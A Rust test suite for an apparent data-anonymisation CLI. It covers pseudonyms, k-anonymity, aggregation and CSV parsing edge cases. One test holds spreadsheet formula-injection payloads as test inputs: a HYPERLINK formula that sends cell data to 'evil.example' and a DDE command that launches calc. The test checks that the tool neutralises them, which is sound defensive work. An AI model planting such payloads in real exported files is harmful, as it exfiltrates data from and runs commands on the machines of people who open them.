//! `declass table` run the way a user runs it: the customers table of Sedar's "Approaches
//! to Data Anonymisation", errors that name rows and columns, k-anonymity by both algorithms, aggregation, JSON Lines and a
//! suggested schema. No text engine or knowledge base is needed, so no corpus is built.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use assert_cmd::Command;

mod parquet;

struct Dir {
    _dir: tempfile::TempDir,
    root: PathBuf,
}

fn dir() -> Dir {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().to_path_buf();
    std::fs::write(root.join("config.toml"), "[setup]\nauto = false\n").expect("config");
    Dir { _dir: dir, root }
}

fn declass(d: &Dir, key: &str) -> Command {
    let mut cmd = crate::common::declass(&d.root.join("data"));
    cmd.arg("--config")
        .arg(d.root.join("config.toml"))
        .env("DECLASS_HASH_KEY", key)
        .arg("table");
    cmd
}

/// `declass table INPUT --schema SCHEMA --out OUT` with the pseudonym key `key`.
fn release(
    d: &Dir,
    key: &str,
    input: impl AsRef<std::ffi::OsStr>,
    schema: impl AsRef<std::ffi::OsStr>,
    out: impl AsRef<std::ffi::OsStr>,
) -> Command {
    let mut cmd = declass(d, key);
    cmd.arg(input)
        .arg("--schema")
        .arg(schema)
        .arg("--out")
        .arg(out);
    cmd
}

fn write(d: &Dir, name: &str, text: &str) -> PathBuf {
    crate::common::write(&d.root, name, text)
}

fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let text = std::fs::read_to_string(path).expect("output");
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(declass::table::hierarchy::arx_delimiter(&text))
        .from_reader(text.as_bytes());
    let header = reader
        .headers()
        .expect("header")
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.expect("row").iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

/// The `customers` table of Sedar's "Approaches to Data Anonymisation" and the schema that
/// makes its `extract_customers`.
const CUSTOMERS: &str = "uniqid,first,last,dob,gndr,smkr,mrtlstat,postcode\n\
aa0001,bob,smith,19810123,M,N,single,EC1V 3EE\n\
af0002,mark,jones,19460802,M,S,widowed,N8 7TA\n\
cx0003,anne,clark,19581105,F,N,married,SW1W 9SR\n";

const CUSTOMERS_SCHEMA: &str = r#"
[[column]]
name = "uniqid"
role = "identifier"
action = "pseudonym"
rename = "newuniqid"

[[column]]
name = "first"
role = "identifier"

[[column]]
name = "last"
role = "identifier"

[[column]]
name = "dob"
role = "quasi"
kind = "date"
format = "%Y%m%d"
precision = "year"
rename = "yob"

[[column]]
name = "gndr"
role = "quasi"

[[column]]
name = "smkr"
role = "insensitive"

[[column]]
name = "mrtlstat"
role = "quasi"

[[column]]
name = "postcode"
role = "quasi"
kind = "postcode"
precision = "outward"
"#;

#[test]
fn seed_customers_become_extract_customers() {
    let d = dir();
    let input = write(&d, "customers.csv", CUSTOMERS);
    let schema = write(&d, "schema.toml", CUSTOMERS_SCHEMA);
    let out = d.root.join("extract_customers.csv");
    release(&d, "key-one", &input, &schema, &out)
        .assert()
        .success();
    let (header, rows) = read_csv(&out);
    assert_eq!(
        header,
        ["newuniqid", "yob", "gndr", "smkr", "mrtlstat", "postcode"]
    );
    let without_ids: Vec<Vec<&str>> = rows
        .iter()
        .map(|r| r[1..].iter().map(String::as_str).collect())
        .collect();
    assert_eq!(
        without_ids,
        [
            ["1981", "M", "N", "single", "EC1V"],
            ["1946", "M", "S", "widowed", "N8"],
            ["1958", "F", "N", "married", "SW1W"],
        ]
    );
    let ids: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert!(
        ids.iter().all(|p| p.len() == 16 && !p.contains("00")),
        "{ids:?}"
    );
    let text = std::fs::read_to_string(&out).expect("out");
    for name in ["aa0001", "bob", "smith", "19810123", "3EE"] {
        assert!(!text.contains(name), "{name} leaked");
    }

    // The same key gives the same pseudonyms in another table and another run, so the
    // tables still join; another key gives others.
    let policies = write(
        &d,
        "policies.csv",
        "policy,uniqid,premium\np1,af0002,120\np2,aa0001,80\n",
    );
    let policy_schema = write(
        &d,
        "policies.toml",
        "[[column]]\nname='policy'\nrole='insensitive'\n[[column]]\nname='uniqid'\nrole='identifier'\naction='pseudonym'\n[[column]]\nname='premium'\nrole='insensitive'\n",
    );
    let joined = d.root.join("policies.out.csv");
    release(&d, "key-one", &policies, &policy_schema, &joined)
        .assert()
        .success();
    let (_, policy_rows) = read_csv(&joined);
    assert_eq!(policy_rows[0][1], ids[1]);
    assert_eq!(policy_rows[1][1], ids[0]);
    let again = d.root.join("again.csv");
    release(&d, "key-one", &input, &schema, &again)
        .assert()
        .success();
    assert_eq!(
        std::fs::read(&out).expect("a"),
        std::fs::read(&again).expect("b")
    );
    let other = d.root.join("other.csv");
    release(&d, "key-two", &input, &schema, &other)
        .assert()
        .success();
    let (_, other_rows) = read_csv(&other);
    assert_ne!(other_rows[0][0], ids[0]);
}

#[test]
fn pseudonyms_without_a_key_are_refused() {
    let d = dir();
    let input = write(&d, "customers.csv", CUSTOMERS);
    let schema = write(&d, "schema.toml", CUSTOMERS_SCHEMA);
    let out = d.root.join("out.csv");
    release(&d, "", &input, &schema, &out)
        .assert()
        .failure()
        .stderr(predicates::str::contains("needs a key"));
    assert!(!out.exists());
}

#[test]
fn bad_input_names_row_and_column_and_writes_nothing() {
    let d = dir();
    let schema = write(&d, "schema.toml", CUSTOMERS_SCHEMA);
    let out = d.root.join("out.csv");
    // A misspelled column.
    let typo = write(
        &d,
        "typo.csv",
        &CUSTOMERS.replacen("postcode", "postcod", 1),
    );
    release(&d, "k", &typo, &schema, &out)
        .assert()
        .failure()
        .stderr(predicates::str::contains("`postcode` is not in the table"))
        .stderr(predicates::str::contains("did you mean `postcod`"));
    // An impossible date on the second row, and a short row.
    let bad = CUSTOMERS.replace("19460802", "19461302") + "zz0009,joe,bloggs,19700101,M,N\n";
    let bad = write(&d, "bad.csv", &bad);
    let assert = release(&d, "k", &bad, &schema, &out)
        .assert()
        .failure()
        .stderr(predicates::str::contains(
            "row 2 (line 3), column `dob`: not a date",
        ));
    let stderr = String::from_utf8_lossy(&assert.get_output().stderr).to_string();
    assert!(!stderr.contains("19461302"), "the value leaked: {stderr}");
    assert!(!out.exists());
    let report = d.root.join("report.json");
    release(&d, "k", &bad, &schema, &out)
        .arg("--report")
        .arg(&report)
        .arg("--skip-bad-rows")
        .assert()
        .success();
    let report: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
    assert_eq!(report["bad_rows"]["count"], 2);
    assert_eq!(report["bad_rows"]["listed"][1]["row"], 4);
    assert_eq!(report["rows_written"], 2);
    assert_eq!(read_csv(&out).1.len(), 2);
}

/// A reproducible table of people: age, sex, postcode, a diagnosis.
fn people(rows: usize) -> String {
    let postcodes = [
        "EC1V 3EE", "EC1V 4AB", "EC2A 1AA", "N8 7TA", "N1 2BB", "SW1W 9SR", "SW1A 1AA",
    ];
    let diagnoses = ["flu", "asthma", "diabetes", "migraine"];
    let mut state: u64 = 42;
    let mut next = |m: u64| {
        state = state
            .wrapping_mul(6364136223846793005)
            .wrapping_add(1442695040888963407);
        (state >> 33) % m
    };
    let mut out = String::from("id;age;sex;postcode;diagnosis\n");
    for i in 0..rows {
        out.push_str(&format!(
            "p{i};{};{};{};{}\n",
            18 + next(70),
            if next(2) == 0 { "F" } else { "M" },
            postcodes[next(7) as usize],
            diagnoses[next(4) as usize]
        ));
    }
    out
}

const PEOPLE_SCHEMA: &str = r#"
[[column]]
name = "id"
role = "identifier"

[[column]]
name = "age"
role = "quasi"
kind = "number"
widths = [5, 10, 20, 40]

[[column]]
name = "sex"
role = "quasi"

[[column]]
name = "postcode"
role = "quasi"
kind = "postcode"

[[column]]
name = "diagnosis"
role = "sensitive"
"#;

fn classes(rows: &[Vec<String>], quasi: &[usize]) -> BTreeMap<Vec<String>, usize> {
    let mut classes = BTreeMap::new();
    for r in rows {
        *classes
            .entry(quasi.iter().map(|&i| r[i].clone()).collect())
            .or_insert(0) += 1;
    }
    classes
}

#[test]
fn k_anonymity_by_lattice_and_mondrian() {
    let d = dir();
    let input = write(&d, "people.csv", &people(400));
    let schema = write(&d, "people.toml", PEOPLE_SCHEMA);
    for (algorithm, k, l) in [
        ("lattice", "5", None),
        ("mondrian", "5", None),
        ("lattice", "4", Some("2")),
        ("mondrian", "10", Some("3")),
    ] {
        let out = d.root.join(format!("{algorithm}-{k}.csv"));
        let report = d.root.join(format!("{algorithm}-{k}.json"));
        let mut cmd = declass(&d, "k");
        cmd.arg(&input)
            .arg("--schema")
            .arg(&schema)
            .arg("--out")
            .arg(&out)
            .arg("--report")
            .arg(&report)
            .args(["--k", k, "--algorithm", algorithm]);
        if let Some(l) = l {
            cmd.args(["--l", l]);
        }
        cmd.assert().success();
        let (header, rows) = read_csv(&out);
        assert_eq!(header, ["age", "sex", "postcode", "diagnosis"]);
        let k: usize = k.parse().expect("k");
        let sizes = classes(&rows, &[0, 1, 2]);
        assert!(sizes.values().all(|&s| s >= k), "{algorithm}: {sizes:?}");
        if let Some(l) = l {
            let l: usize = l.parse().expect("l");
            let mut seen: BTreeMap<Vec<String>, std::collections::BTreeSet<String>> =
                BTreeMap::new();
            for r in &rows {
                seen.entry(r[..3].to_vec())
                    .or_default()
                    .insert(r[3].clone());
            }
            assert!(
                seen.values().all(|s| s.len() >= l),
                "{algorithm}: l-diversity"
            );
        }
        let report: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
        let anonymity = &report["anonymity"];
        assert_eq!(anonymity["classes"].as_u64(), Some(sizes.len() as u64));
        assert!(anonymity["smallest_class"].as_u64().expect("smallest") >= k as u64);
        let ncp = anonymity["ncp"].as_f64().expect("ncp");
        assert!(ncp > 0.0 && ncp < 1.0, "{ncp}");
        assert_eq!(
            report["rows_written"].as_u64().expect("written")
                + anonymity["suppressed_rows"].as_u64().expect("suppressed"),
            400
        );
    }
    // A model no release can meet fails and writes nothing.
    let out = d.root.join("impossible.csv");
    release(&d, "k", &input, &schema, &out)
        .args(["--k", "401"])
        .assert()
        .failure()
        .stderr(predicates::str::contains(
            "no generalization satisfies the privacy model",
        ));
    assert!(!out.exists());
}

/// Under k-anonymity the input is read twice (combinations, then rows): a bad row is
/// left out of both passes and counted once, and one whose bad value reappears on a later
/// row does not make that row look like a changed table.
#[test]
fn k_anonymity_skips_the_same_bad_rows_in_both_passes() {
    let d = dir();
    let mut table = people(200);
    table.push_str("p900;forty;F;N8 7TA;flu\n");
    table.push_str("p901;33;M;not a postcode;asthma\n");
    table.push_str("p902;forty;M;N1 2BB;flu\n");
    let input = write(&d, "people.csv", &table);
    let schema = write(&d, "people.toml", PEOPLE_SCHEMA);
    for algorithm in ["lattice", "mondrian"] {
        let out = d.root.join(format!("{algorithm}.csv"));
        let report = d.root.join(format!("{algorithm}.json"));
        release(&d, "k", &input, &schema, &out)
            .arg("--report")
            .arg(&report)
            .args(["--k", "5", "--algorithm", algorithm, "--skip-bad-rows"])
            .assert()
            .success();
        let report: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
        assert_eq!(report["bad_rows"]["count"], 3, "{algorithm}");
        let rows: Vec<u64> = report["bad_rows"]["listed"]
            .as_array()
            .expect("listed")
            .iter()
            .map(|b| b["row"].as_u64().expect("row"))
            .collect();
        assert_eq!(rows, [201, 202, 203], "{algorithm}");
        let (_, released) = read_csv(&out);
        let suppressed = report["anonymity"]["suppressed_rows"].as_u64().expect("s");
        assert_eq!(released.len() as u64 + suppressed, 200, "{algorithm}");
        assert!(classes(&released, &[0, 1, 2]).values().all(|&s| s >= 5));
    }
    // Without --skip-bad-rows the first bad row is the error.
    declass(&d, "k")
        .arg(&input)
        .arg("--schema")
        .arg(&schema)
        .arg("--out")
        .arg(d.root.join("failed.csv"))
        .args(["--k", "5"])
        .assert()
        .failure()
        .stderr(predicates::str::contains(
            "row 201 (line 202), column `age`: not a number",
        ));
    assert!(!d.root.join("failed.csv").exists());
}

#[test]
fn aggregation_merges_small_groups() {
    let d = dir();
    let input = write(&d, "people.csv", &people(200));
    let schema = write(&d, "people.toml", PEOPLE_SCHEMA);
    let out = d.root.join("groups.csv");
    release(&d, "k", &input, &schema, &out)
        .args([
            "--aggregate-by",
            "postcode,sex",
            "--sum",
            "age",
            "--k",
            "20",
        ])
        .assert()
        .success();
    let (header, rows) = read_csv(&out);
    assert_eq!(header, ["postcode", "sex", "count", "sum_age"]);
    let total: u64 = rows
        .iter()
        .map(|r| r[2].parse::<u64>().expect("count"))
        .sum();
    assert!(total <= 200);
    assert!(
        rows.iter()
            .all(|r| r[2].parse::<u64>().expect("count") >= 20),
        "{rows:?}"
    );
    assert!(
        rows.iter().any(|r| r[0] == "*"),
        "small groups merged: {rows:?}"
    );
}

#[test]
fn json_lines_in_and_out() {
    let d = dir();
    let input = write(
        &d,
        "c.jsonl",
        "{\"uniqid\":\"aa0001\",\"dob\":\"1981-01-23\",\"salary\":52000}\n{\"uniqid\":\"af0002\",\"dob\":\"1946-08-02\",\"salary\":9100000}\n",
    );
    let schema = write(
        &d,
        "c.toml",
        "[[column]]\nname='uniqid'\nrole='identifier'\naction='pseudonym'\n\
         [[column]]\nname='dob'\nrole='quasi'\nkind='date'\nprecision='decade'\n\
         [[column]]\nname='salary'\nrole='quasi'\nkind='number'\ntop=5000000\nround=1000\n",
    );
    let out = d.root.join("c.out.jsonl");
    release(&d, "k", &input, &schema, &out).assert().success();
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(&out)
        .expect("out")
        .lines()
        .map(|l| serde_json::from_str(l).expect("json line"))
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[0]["dob"], "1980s");
    assert_eq!(lines[0]["salary"], "52000");
    assert_eq!(lines[1]["salary"], "5000000");
    assert_eq!(lines[1]["dob"], "1940s");
}

#[test]
fn suggest_proposes_a_schema_that_loads() {
    let d = dir();
    let input = write(&d, "customers.csv", CUSTOMERS);
    let proposal = d.root.join("proposal.toml");
    declass(&d, "k")
        .arg(&input)
        .arg("--suggest")
        .arg("--out")
        .arg(&proposal)
        .assert()
        .success();
    let text = std::fs::read_to_string(&proposal).expect("proposal");
    assert!(
        !text.contains("smith") && !text.contains("19810123"),
        "{text}"
    );
    let out = d.root.join("out.csv");
    release(&d, "k", &input, &proposal, &out).assert().success();
    let (header, _) = read_csv(&out);
    assert!(!header.contains(&"first".to_string()), "{header:?}");
    assert!(header.contains(&"dob".to_string()));
}

/// A register whose `name` column the schema drops, and whose date of birth and postcode
/// are released only coarsened.
const REGISTER_SCHEMA: &str = r#"
[[column]]
name = "id"
role = "insensitive"

[[column]]
name = "name"
role = "identifier"

[[column]]
name = "dob"
role = "quasi"
kind = "date"
format = "%Y-%m-%d"
precision = "year"

[[column]]
name = "postcode"
role = "quasi"
kind = "postcode"
precision = "outward"

[[column]]
name = "status"
role = "insensitive"
"#;

/// An attack on the CSV reader: a quote left open in a released column (or one closed on a
/// later line with text after it) must not fold the rows after it into that column, where
/// the dropped name and the exact date and postcode would be published as-is. By default
/// the run fails naming the row and its line; with `--skip-bad-rows` the row is left out
/// and counted, and nothing of it reaches the output.
#[test]
fn a_hostile_quote_never_publishes_a_dropped_column() {
    let d = dir();
    let schema = write(&d, "schema.toml", REGISTER_SCHEMA);
    let header = "id,name,dob,postcode,status\n1,Ann Smith,1950-01-02,EC1V 3EE,active\n";
    let secret =
        "2,Margaret Ellison,1956-03-14,SW1A 1AB,active\n3,Bob Jones,1960-05-06,N8 7TA,ok\n";
    let attacks = [
        (
            "unclosed",
            format!("{header}9,Cy Doe,1970-01-01,N1 9GU,\"retired\n{secret}"),
        ),
        (
            "reopened",
            format!(
                "{header}9,Cy Doe,1970-01-01,N1 9GU,\"retired\n{secret}4,Di Roe,1980-02-03,E1 6AN,\"x\"y\n"
            ),
        ),
    ];
    for (name, table) in attacks {
        let input = write(&d, &format!("{name}.csv"), &table);
        let out = d.root.join(format!("{name}.out.csv"));
        let failed = release(&d, "k", &input, &schema, &out)
            .output()
            .expect("runs");
        crate::common::assert_clean_failure(&failed, &[&format!("{name}.csv"), "row 2 (line 3)"]);
        assert!(!out.exists(), "{name}: written despite the error");
        let report = d.root.join(format!("{name}.report.json"));
        release(&d, "k", &input, &schema, &out)
            .arg("--skip-bad-rows")
            .arg("--report")
            .arg(&report)
            .assert()
            .success();
        let released = std::fs::read_to_string(&out).expect("output");
        for leaked in [
            "Margaret",
            "Ellison",
            "1956-03-14",
            "SW1A 1AB",
            "Bob Jones",
            "N8 7TA",
        ] {
            assert!(
                !released.contains(leaked),
                "{name}: `{leaked}` released: {released}"
            );
        }
        let (header, rows) = read_csv(&out);
        assert_eq!(header, ["id", "dob", "postcode", "status"]);
        assert!(
            rows.iter().all(|r| r.len() == 4 && !r[3].contains('\n')),
            "{rows:?}"
        );
        let report: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
        assert_eq!(
            report["bad_rows"]["listed"][0]["row"], 2,
            "{name}: {report}"
        );
        assert_eq!(
            report["bad_rows"]["listed"][0]["line"], 3,
            "{name}: {report}"
        );
        assert_eq!(report["rows_written"], rows.len(), "{name}: {report}");
    }
}

/// An attack through the release: cells that a spreadsheet opening the CSV would run as
/// formulas (a link that exfiltrates, a DDE command, a function, a formula after a tab).
/// They are written with a leading `'` and counted in the report; plain negative and signed
/// numbers stay numbers; `table.formula_escape = false` writes every cell as it is, and
/// JSON Lines output keeps values exact.
#[test]
fn spreadsheet_formulas_in_released_cells_are_neutralized() {
    let d = dir();
    let schema = write(
        &d,
        "schema.toml",
        "[[column]]\nname = 'id'\nrole = 'insensitive'\n\
         [[column]]\nname = 'balance'\nrole = 'insensitive'\n\
         [[column]]\nname = 'delta'\nrole = 'quasi'\nkind = 'number'\nround = 5\n\
         [[column]]\nname = 'note'\nrole = 'sensitive'\n\
         [[column]]\nname = 'city'\nrole = 'insensitive'\n",
    );
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "-2+3",
    ];
    let input = write(
        &d,
        "t.csv",
        &format!(
            "id,balance,delta,note,city\n\
             1,-5,-12,\"{}\",Leeds\n\
             2,+3.5,7,{},York\n\
             3,-1e3,-3,{},\"\t=1+2\"\n\
             4,-0.25,0,{},Hull\n",
            formulas[0].replace('"', "\"\""),
            formulas[1],
            formulas[2],
            formulas[3]
        ),
    );
    let out = d.root.join("out.csv");
    let report = d.root.join("report.json");
    let run = |out: &Path| {
        release(&d, "k", &input, &schema, out)
            .arg("--report")
            .arg(&report)
            .assert()
            .success();
        let report: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).expect("report")).expect("json");
        report["formula_cells_escaped"].clone()
    };
    assert_eq!(run(&out), 5);
    let (_, rows) = read_csv(&out);
    let column = |j: usize| rows.iter().map(|r| r[j].clone()).collect::<Vec<_>>();
    assert_eq!(
        column(3),
        formulas.iter().map(|f| format!("'{f}")).collect::<Vec<_>>()
    );
    assert_eq!(column(4), ["Leeds", "York", "'\t=1+2", "Hull"]);
    assert_eq!(column(1), ["-5", "+3.5", "-1e3", "-0.25"]);
    assert_eq!(column(2), ["-10", "5", "-5", "0"]);
    for row in &rows {
        for cell in row {
            assert!(
                !declass::table::rows::is_formula(cell),
                "a formula released: {cell:?}"
            );
        }
    }
    // JSON Lines output is data for programs: exact values, nothing escaped.
    let jsonl = d.root.join("out.jsonl");
    assert_eq!(run(&jsonl), 0);
    let first: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(&jsonl)
            .expect("jsonl")
            .lines()
            .next()
            .expect("a line"),
    )
    .expect("json");
    assert_eq!(first["note"], formulas[0]);
    // Turned off: every cell as it is.
    std::fs::write(
        d.root.join("config.toml"),
        "[setup]\nauto = false\n[table]\nformula_escape = false\n",
    )
    .expect("config");
    assert_eq!(run(&out), 0);
    let (_, rows) = read_csv(&out);
    assert_eq!(rows[0][3], formulas[0]);
    assert_eq!(rows[2][4], "\t=1+2");
}

/// A bad `[table]` value is refused naming the configuration file and the key, and a table
/// with a header but no rows is released with a warning saying so.
#[test]
fn bad_table_settings_name_their_file_and_an_empty_table_warns() {
    let d = dir();
    let schema = write(&d, "schema.toml", CUSTOMERS_SCHEMA);
    let input = write(&d, "customers.csv", CUSTOMERS);
    let out = d.root.join("out.csv");
    let config = d.root.join("config.toml");
    for setting in [
        "suppression_limit = 2.0",
        "pseudonym_hex_chars = 4",
        "max_lattice_nodes = 0",
    ] {
        std::fs::write(
            &config,
            format!("[setup]\nauto = false\n[table]\n{setting}\n"),
        )
        .expect("config");
        let failed = release(&d, "k", &input, &schema, &out)
            .output()
            .expect("runs");
        let key = setting.split(' ').next().expect("key");
        crate::common::assert_clean_failure(
            &failed,
            &[&config.display().to_string(), &format!("table.{key}")],
        );
    }
    std::fs::write(&config, "[setup]\nauto = false\n").expect("config");
    let header_only = write(&d, "header.csv", CUSTOMERS.lines().next().expect("header"));
    let ran = release(&d, "k", &header_only, &schema, &out)
        .output()
        .expect("runs");
    crate::common::assert_success(&ran);
    let stderr = String::from_utf8_lossy(&ran.stderr);
    assert!(stderr.contains("header.csv: no rows"), "{stderr}");
    assert_eq!(read_csv(&out).1.len(), 0);
}
